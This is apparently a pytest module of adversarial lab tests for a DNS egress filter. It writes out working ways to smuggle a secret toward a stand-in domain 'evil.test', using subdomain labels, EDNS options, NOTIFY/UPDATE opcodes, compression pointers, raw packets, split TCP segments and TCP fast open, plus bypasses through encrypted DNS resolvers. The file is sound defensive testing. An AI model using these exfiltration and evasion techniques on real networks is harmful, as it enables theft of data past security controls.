"""Names as a way out, where only those of the policy may be asked for; and other ways to ask."""

from __future__ import annotations

import contextlib
import os
import socket
import struct
import time
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from tests.adversarial import lies
from tests.adversarial.actor import Actor
from tests.adversarial.field import SETTLING, Attack, Field, Sniffer, Target, eventually, tcp_connect
from tests.adversarial.lookups import ask, name_of
from tests.adversarial.packets import (
    ACK,
    PSH,
    framed,
    ipv4,
    labels_of,
    query,
    record,
    tcp,
    udp,
    wire_name,
)
from tests.lab import topology
from tests.lab.lab import Lab
from tests.lab.rogue import RogueDns

RESOLVER = topology.ROGUE_RESOLVER
LISTED = "ok.lies.test"
KNOWN = "1.1.1.1"  # Cloudflare's, which serves nothing but DNS
KNOWN_V6 = "2606:4700:4700::1111"

NAME = "denied-query-name"
NO_QUERY = "denied-not-a-query"

_DGRAM, _STREAM, _AF_INET, _AF_INET6 = (
    socket.SOCK_DGRAM,
    socket.SOCK_STREAM,
    socket.AF_INET,
    socket.AF_INET6,
)
_MSG_FASTOPEN = 0x20000000
_UDP_SEGMENT = 103
# ip-sysctl: client and server, without a cookie from an earlier connection, for all listeners.
_FAST_OPEN_AT_ONCE, _FAST_OPEN_DEFAULT = 0x607, 1
_TO = (RESOLVER, 53)
NULL, PTR, TXT, HTTPS, ANY = 10, 12, 16, 65, 255

core = pytest.mark.core

Leak = Callable[[Actor, bytes], object]
"""Has a secret, which a label can hold, reach the resolver."""


@pytest.fixture(scope="module")
def policy() -> str:
    return f"""\
version: 1
registries:
  - host: "*.lies.test"
  - host: allowed.registry.test
    private: true
refusals:
  responder: off
resolvers: [{RESOLVER}]
dns: {{ allowed_names_only: true }}
"""


@pytest.fixture(scope="module", autouse=True)
def rogue(lab: Lab) -> Iterator[RogueDns]:
    """The resolver, which takes all questions."""
    with RogueDns(lab.dns.node, Path(lies.__file__)) as result:
        yield result


@pytest.fixture(scope="module", autouse=True)
def over_tcp(lab: Lab) -> Iterator[None]:
    """It takes connections too, also with data in the first segment."""
    _allow_fast_open(lab, _FAST_OPEN_AT_ONCE)
    with Actor(lab.dns.node) as actor:
        item = actor.socket(_AF_INET, _STREAM)
        item.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        item.bind(_TO)
        item.listen()
        yield
    _allow_fast_open(lab, _FAST_OPEN_DEFAULT)


def _allow_fast_open(lab: Lab, value: int) -> None:
    for node in (lab.dns.node, lab.client):
        setting = "/proc/sys/net/ipv4/tcp_fastopen"
        node.run(["sh", "-c", f"echo {value} >{setting}"], cgroup=node.services).check()


@pytest.fixture(scope="module")
def wire(lab: Lab) -> Iterator[Sniffer]:
    """What reaches the resolver."""
    sniffer = Sniffer(lab.dns.node)
    yield sniffer
    sniffer.close()


def datagram(actor: Actor, message: bytes) -> None:
    actor.socket(_AF_INET, _DGRAM).sendto(message, _TO)


def stream(actor: Actor, *pieces: bytes) -> None:
    item = actor.socket(_AF_INET, _STREAM)
    item.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    item.connect(_TO)
    for piece in pieces:
        item.send(piece)


def below(text: str, secret: bytes) -> bytes:
    """A name on the wire."""
    return wire_name(secret, *labels_of(text))


def plain(kind: int) -> Leak:
    return lambda actor, secret: datagram(actor, query(below("evil.test", secret), kind))


def below_an_exact_name(actor: Actor, secret: bytes) -> None:
    """The resolver asks whoever has the allowed name's domain, down to the last label."""
    datagram(actor, query(below("allowed.registry.test", secret)))


def below_a_listed_label(actor: Actor, secret: bytes) -> None:
    """Two labels where the wildcard has one."""
    datagram(actor, query(below(LISTED, secret)))


def in_another_class(actor: Actor, secret: bytes) -> None:
    """Class CHAOS has names too."""
    datagram(actor, query(below("evil.test", secret))[:-1] + b"\3")


def with_a_second_question(actor: Actor, secret: bytes) -> None:
    """The first question is for an allowed name."""
    second = query(below("evil.test", secret))[12:]
    datagram(actor, query(name_of(LISTED), questions=2) + second)


def with_no_question(actor: Actor, secret: bytes) -> None:
    """Nothing is asked; the secret is in an EDNS option."""
    option = struct.pack("!HH", 65001, len(secret)) + secret
    opt = b"\0" + struct.pack("!HHIH", 41, 1232, 0, len(option)) + option
    datagram(actor, struct.pack("!HHHHHH", 7, 0x0100, 0, 0, 0, 1) + opt)


def as_a_notification(actor: Actor, secret: bytes) -> None:
    """Opcode NOTIFY (RFC 1996) instead of a query."""
    message = query(below("evil.test", secret))
    datagram(actor, message[:2] + b"\x24" + message[3:])


def as_an_update(actor: Actor, secret: bytes) -> None:
    """Opcode UPDATE (RFC 2136): the zone is an allowed name, and what is to be written there is not."""
    update = struct.pack("!HHHHHH", 7, 5 << 11, 1, 0, 1, 0)
    datagram(actor, update + name_of(LISTED) + b"\0\6\0\1" + record(b"\xc0\x0c", TXT, bytes([8]) + secret))


def as_a_response(actor: Actor, secret: bytes) -> None:
    """Marked as a response, which asks nothing."""
    message = query(below("evil.test", secret))
    datagram(actor, message[:2] + b"\x81" + message[3:])


def by_a_pointer(actor: Actor, secret: bytes) -> None:
    """The question's name goes on behind the question, where a pointer leads."""
    rest = below("evil.test", secret)
    datagram(actor, query(b"\1x\xc0" + bytes([12 + 4 + 4])) + rest)


def no_dns(actor: Actor, secret: bytes) -> None:
    """Port 53, and no DNS at all."""
    datagram(actor, b"\0" * 3 + secret)


def raw_datagram(actor: Actor, secret: bytes) -> None:
    """Made by hand."""
    payload = udp(topology.CLIENT, RESOLVER, 53, query(below("evil.test", secret)))
    packet = ipv4(topology.CLIENT, RESOLVER, socket.IPPROTO_UDP, payload)
    actor.socket(_AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW).sendto(packet, (RESOLVER, 0))


def segmented(actor: Actor, secret: bytes) -> None:
    """One send that the kernel cuts into many datagrams, behind where it is looked into."""
    first = query(name_of("a-name-that-is-as-long-as-the-other.lies.test"))
    second = query(below("evil.test", secret)).ljust(len(first), b"\0")
    item = actor.socket(_AF_INET, _DGRAM)
    item.setsockopt(socket.IPPROTO_UDP, _UDP_SEGMENT, len(first))
    item.sendto(first + second[: len(first)], _TO)


def over_a_stream(actor: Actor, secret: bytes) -> None:
    """Over TCP."""
    stream(actor, framed(query(below("evil.test", secret))))


def in_two_segments(actor: Actor, secret: bytes) -> None:
    """A query in two segments, neither of which is one."""
    message = framed(query(below("evil.test", secret)))
    stream(actor, message[:14], message[14:])


def behind_an_allowed_query(actor: Actor, secret: bytes) -> None:
    """In the same segment as a query for an allowed name."""
    stream(actor, framed(query(name_of(LISTED)), query(below("evil.test", secret))))


def after_an_allowed_query(actor: Actor, secret: bytes) -> None:
    """On a connection that has begun with a query for an allowed name."""
    stream(actor, framed(query(name_of(LISTED))), framed(query(below("evil.test", secret))))


def with_the_first_segment(actor: Actor, secret: bytes) -> None:
    """Data in the SYN (TCP fast open), before there is a connection."""
    item = actor.socket(_AF_INET, _STREAM)
    item.sendto(framed(query(below("evil.test", secret))), _TO, _MSG_FASTOPEN)


def raw_segment(actor: Actor, secret: bytes) -> None:
    """A segment without a connection."""
    payload = framed(query(below("evil.test", secret)))
    segment = tcp(topology.CLIENT, RESOLVER, 53, ACK | PSH, payload)
    packet = ipv4(topology.CLIENT, RESOLVER, socket.IPPROTO_TCP, segment)
    actor.socket(_AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW).sendto(packet, (RESOLVER, 0))


def behind_the_question(actor: Actor, secret: bytes) -> None:
    """A segment that is a query for an allowed name, with another query in the bytes behind its question.

    Sent by hand, it begins before what the resolver has, so that of all of it only those bytes are new.
    """
    message = query(name_of(LISTED)) + framed(query(below("evil.test", secret)))
    segment = tcp(topology.CLIENT, RESOLVER, 53, ACK | PSH, framed(message))
    packet = ipv4(topology.CLIENT, RESOLVER, socket.IPPROTO_TCP, segment)
    actor.socket(_AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW).sendto(packet, (RESOLVER, 0))


@pytest.mark.parametrize(
    ("leak", "reason"),
    [
        pytest.param(plain(1), NAME, id="A", marks=core),
        pytest.param(plain(TXT), NAME, id="TXT"),
        pytest.param(plain(NULL), NAME, id="NULL"),
        pytest.param(plain(PTR), NAME, id="PTR"),
        pytest.param(plain(HTTPS), NAME, id="HTTPS"),
        pytest.param(plain(ANY), NAME, id="any type"),
        pytest.param(below_an_exact_name, NAME, id="below an exact name", marks=core),
        pytest.param(below_a_listed_label, NAME, id="below a wildcard's label"),
        pytest.param(in_another_class, NAME, id="in another class"),
        pytest.param(with_a_second_question, NO_QUERY, id="in a second question", marks=core),
        pytest.param(with_no_question, NO_QUERY, id="without a question"),
        pytest.param(as_a_notification, NO_QUERY, id="as a notification"),
        pytest.param(as_an_update, NO_QUERY, id="as an update"),
        pytest.param(as_a_response, NO_QUERY, id="as a response"),
        pytest.param(by_a_pointer, NO_QUERY, id="by a pointer"),
        pytest.param(no_dns, NO_QUERY, id="no DNS"),
        pytest.param(raw_datagram, NAME, id="raw datagram"),
        pytest.param(segmented, NO_QUERY, id="in one of several datagrams", marks=core),
        pytest.param(over_a_stream, NAME, id="TCP", marks=core),
        pytest.param(in_two_segments, NO_QUERY, id="TCP, in two segments"),
        pytest.param(behind_an_allowed_query, NO_QUERY, id="TCP, behind an allowed query"),
        pytest.param(after_an_allowed_query, NAME, id="TCP, after an allowed query"),
        pytest.param(with_the_first_segment, NAME, id="TCP, with the first segment"),
        pytest.param(raw_segment, NAME, id="TCP, raw segment"),
        pytest.param(behind_the_question, NO_QUERY, id="TCP, behind the question"),
    ],
)
def test_secret(field: Field, wire: Sniffer, leak: Leak, reason: str) -> None:
    """A client carries a secret out to whoever answers for the name, by way of the trusted resolver."""
    secret = os.urandom(4).hex().encode()
    start = len(field.daemon.lines())
    with contextlib.suppress(OSError):  # not every attacker is told
        leak(field.inside, secret)
    field.line(start, lambda line: line.get("reason") in (NAME, NO_QUERY), f"{NAME} or {NO_QUERY}")
    time.sleep(SETTLING)
    assert not reached(wire, secret), "the secret got out"
    told = {line.get("reason") for line in field.daemon.lines()[start:]}
    assert reason in told, told
    field.inside.reset()
    with contextlib.suppress(BlockingIOError):  # as for any first segment with data
        leak(field.outside, secret)
    assert eventually(lambda: reached(wire, secret)), "the attack does not work even where nothing stops it"
    field.outside.reset()


def reached(wire: Sniffer, secret: bytes) -> bool:
    return any(secret in packet for packet in wire.packets())


@core
def test_allowed_name(field: Field) -> None:
    """No attack: names of the policy may be asked for, with any type and over TCP as well."""
    for kind in (1, 28, HTTPS, TXT):
        ask(field, query(name_of(LISTED), kind), replies=0)
    ask(field, query(name_of(LISTED)))
    stream(field.inside, framed(query(name_of(LISTED))))
    field.inside.reset()


def tls(actor: Actor, target: Target) -> None:
    """DNS over TLS (RFC 7858)."""
    tcp_connect(actor, target.v4, 853)


def tls_v6(actor: Actor, target: Target) -> None:
    """The same over IPv6."""
    tcp_connect(actor, target.v6, 853)


def quic(actor: Actor, target: Target) -> None:
    """DNS over QUIC (RFC 9250)."""
    actor.socket(_AF_INET, _DGRAM).sendto(b"\xc0" + bytes(1199), (target.v4, 853))


def quic_v6(actor: Actor, target: Target) -> None:
    """The same over IPv6."""
    actor.socket(_AF_INET6, _DGRAM).sendto(b"\xc0" + bytes(1199), (target.v6, 853))


def https(actor: Actor, target: Target) -> None:
    """DNS over HTTPS (RFC 8484) by somebody whom nobody knows."""
    tcp_connect(actor, target.v4)


def http3(actor: Actor, target: Target) -> None:
    """The same over HTTP/3."""
    actor.socket(_AF_INET, _DGRAM).sendto(b"\xc0" + bytes(1199), (target.v4, 443))


def on_port(port: int, kind: int = _DGRAM) -> Attack:
    """Plain DNS to another resolver."""

    def attack(actor: Actor, target: Target) -> None:
        item = actor.socket(_AF_INET, kind)
        if kind == _STREAM:
            item.connect((target.v4, port))
        else:
            item.sendto(query(name_of(LISTED)), (target.v4, port))

    return attack


@pytest.mark.parametrize(
    ("attack", "reason"),
    [
        pytest.param(tls, "denied-dns-over-tls", id="TLS", marks=core),
        pytest.param(tls_v6, "denied-dns-over-tls", id="TLS over IPv6"),
        pytest.param(quic, "denied-dns-over-quic", id="QUIC", marks=core),
        pytest.param(quic_v6, "denied-dns-over-quic", id="QUIC over IPv6"),
        pytest.param(https, "denied-unknown-address", id="HTTPS"),
        pytest.param(http3, "denied-unknown-address", id="HTTP/3"),
        pytest.param(on_port(53), "denied-resolver", id="port 53"),
        pytest.param(on_port(53, _STREAM), "denied-resolver", id="port 53 over TCP"),
        pytest.param(on_port(5353), "denied-unknown-address", id="port 5353"),
        pytest.param(on_port(8053), "denied-unknown-address", id="port 8053"),
        pytest.param(on_port(8053, _STREAM), "denied-unknown-address", id="port 8053 over TCP"),
    ],
)
def test_other_resolver(field: Field, attack: Attack, reason: str) -> None:
    """A resolver that is not trusted answers whatever is asked."""
    field.repels(attack, reason)


@pytest.mark.parametrize(
    "address", [pytest.param(KNOWN, id="IPv4", marks=core), pytest.param(KNOWN_V6, id="IPv6")]
)
def test_known_resolver_over_https(field: Field, address: str) -> None:
    """The address of a well-known resolver, at which nothing else is."""
    field.lab.blocked.node.add_addresses(address)
    for kind in (_STREAM, _DGRAM):
        start = len(field.daemon.lines())
        family = _AF_INET6 if ":" in address else _AF_INET
        with pytest.raises(PermissionError):
            field.inside.socket(family, kind).connect((address, 443))
        field.reason(start, ("denied-dns-over-https",), address)
    tcp_connect(field.outside, address)
    field.inside.reset()
    field.outside.reset()
